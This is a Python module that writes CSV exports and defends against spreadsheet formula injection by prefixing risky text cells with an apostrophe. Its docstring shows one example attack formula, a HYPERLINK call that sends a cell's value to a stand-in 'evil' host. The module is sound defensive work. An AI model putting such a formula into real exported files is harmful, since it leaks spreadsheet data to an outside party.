"""CSV for people: every CSV CityStat hands out is written here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula, so a commitment, a narrative or a source value typed as
`=HYPERLINK("http://evil/?"&A1, "Open")` would run on the reader's machine. Text cells that
start with one of those characters get a leading apostrophe, which spreadsheets show as text
(the OWASP advice); numbers, dates and other cells are written unchanged.
"""

from __future__ import annotations

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralised(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell that a spreadsheet would run as a formula made plain text."""
    text_columns = [name for name, dtype in frame.schema.items() if dtype in (pl.Utf8, pl.Categorical, pl.Enum)
                    or isinstance(dtype, (pl.Categorical, pl.Enum))]
    if not text_columns:
        return frame
    pattern = "^[" + "".join("\\" + c if c in "-+" else c for c in FORMULA_START) + "]"
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.Utf8).str.contains(pattern))
        .then(pl.lit("'") + pl.col(name).cast(pl.Utf8))
        .otherwise(pl.col(name).cast(pl.Utf8))
        .alias(name)
        for name in text_columns)


def csv_text(frame: pl.DataFrame) -> str:
    """UTF-8 CSV with a header, safe to open in a spreadsheet."""
    return neutralised(frame).write_csv()


def csv_bytes(frame: pl.DataFrame) -> bytes:
    return csv_text(frame).encode("utf-8")
